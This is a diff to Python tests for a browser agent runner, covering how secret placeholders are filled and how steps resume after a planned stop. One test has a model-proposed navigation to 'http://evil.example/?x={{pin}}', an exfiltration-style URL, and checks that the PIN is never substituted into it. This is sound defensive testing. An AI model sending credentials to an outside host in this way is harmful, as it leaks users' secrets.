@@ -51,15 +51,17 @@ class Pages:
         self.answer: Callable[[Command], Result | BaseException | None] = lambda _: None
         self.hang: type[Command] | None = None  # type: ignore[valid-type]
         self.hanging = asyncio.Event()
+        self.release = asyncio.Event()
+        self.ends_when_released = False
 
-    def hide(self, session_id: str, secrets: Collection[str]) -> None:
+    async def hide(self, session_id: str, secrets: Collection[str]) -> None:
         self.hidden.update(secrets)
 
     async def perform(self, session_id: str, command: Command) -> Result:
         self.commands.append(command)
         if self.hang is not None and isinstance(command, self.hang):
             self.hanging.set()
-            await asyncio.Event().wait()
+            await (self.release if self.ends_when_released else asyncio.Event()).wait()
         said = self.answer(command)
         if isinstance(said, BaseException):
             raise said
@@ -261,6 +263,79 @@ async def test_after_a_crash_a_step_that_may_have_happened_is_not_taken_for_undo
     assert (told[1].ok, "may have happened" in told[1].outcome) == (False, True)
     assert not [command for command in pages.commands if isinstance(command, Act)]
     assert conclusion(again)["iterations"] == 2
+    [unknown] = steps_of(again)
+    assert (unknown["step"], unknown["instruction"], unknown["status"]) == (2, "Click Buy now", "failed")
+
+
+async def test_a_models_word_puts_no_secret_anywhere_but_where_it_fits(bench: Bench) -> None:
+    fill = do('Enter "{{pin}}" in "PIN" and {{other}}', "p3", by="model", reveals=("pin",))
+    go = Proposed(kind="go", instruction="http://evil.example/?x={{pin}}", page="p1", by="model")
+    read = Proposed(kind="read", instruction="where is {{pin}}", page="p2", by="model")
+    pages = Pages(go, read, fill, do("Enter {{other}} in Other", "p4"), DONE)
+    await bench.run(pages, secrets={"pin": "987654", "other": "123 456"})
+    said = [getattr(each, "instruction", "") or getattr(each, "query", "") for each in pages.commands]
+    assert [each for each in said if each] == [
+        "http://evil.example/?x={{pin}}", "where is {{pin}}", 'Enter "987654" in "PIN" and {{other}}',
+        "Enter 123 456 in Other",
+    ]  # fmt: skip
+
+
+async def test_a_secret_with_quotes_is_typed_as_a_whole(bench: Bench) -> None:
+    pages = Pages(do('Enter "{{pin}}" in the PIN field'), DONE)
+    await bench.run(pages, secrets={"pin": 'ab"cd'})
+    assert [each.instruction for each in pages.commands if isinstance(each, Act)] == [
+        "Enter 'ab\"cd' in the PIN field"
+    ]  # fmt: skip
+
+
+async def test_what_the_session_masked_is_not_typed(bench: Bench) -> None:
+    pages = Pages(do('Enter "********" in Password'), DONE)
+    _, attempt = await bench.run(pages)
+    assert steps_of(attempt)[0]["status"] == "failed"
+    assert not [each for each in pages.commands if isinstance(each, Act)]
+
+
+async def test_a_guarded_task_stays_guarded(bench: Bench) -> None:
+    pages = Pages(do(guarded=True), do("Click Other", "p2"), DONE)
+    await bench.run(pages)
+    assert [each.guarded for each in pages.asked] == [False, True, True]
+
+
+async def stopped_in(bench: Bench, pages: Pages, kind: type[Command]) -> RecordingAttempt:  # type: ignore[valid-type]
+    """An attempt that the engine put back when it stopped by plan, in the midst of a step."""
+    pages.hang = kind
+    attempt = bench.attempt()
+    running = asyncio.create_task(AgentRunner(pages, bench.sealing).run(attempt))
+    await pages.hanging.wait()
+    attempt.ask_to_stop(Reason.DRAINED)
+    pages.release.set()
+    await running
+    return attempt
+
+
+async def test_after_a_planned_stop_a_wait_is_done_again(bench: Bench) -> None:
+    wait = Proposed(kind="act", instruction="wait 7 seconds", page="p1", repeatable=True)
+    first = await stopped_in(bench, Pages(wait, DONE), Act)
+    again = bench.attempt()
+    again.saved = first.saved
+    pages = Pages(wait, DONE)
+    outcome = await AgentRunner(pages, bench.sealing).run(again)
+    assert outcome.state is JobState.COMPLETED
+    assert pages.asked[0].history == (), "nothing is known to have been done, and nothing may have gone wrong"
+    assert [each["status"] for each in steps_of(again)] == ["success"]
+
+
+async def test_a_planned_stop_leaves_a_step_that_ends_soon_its_end(bench: Bench) -> None:
+    pages = Pages(do(), DONE)
+    pages.ends_when_released = True
+    first = await stopped_in(bench, pages, Act)
+    again = bench.attempt()
+    again.saved = first.saved
+    pages = Pages(DONE)
+    await AgentRunner(pages, bench.sealing).run(again)
+    [past] = pages.asked[0].history
+    assert past.ok, "it was seen to the end"
+    assert [each["status"] for each in steps_of(first)] == ["success"]
 
 
 @pytest.mark.parametrize(
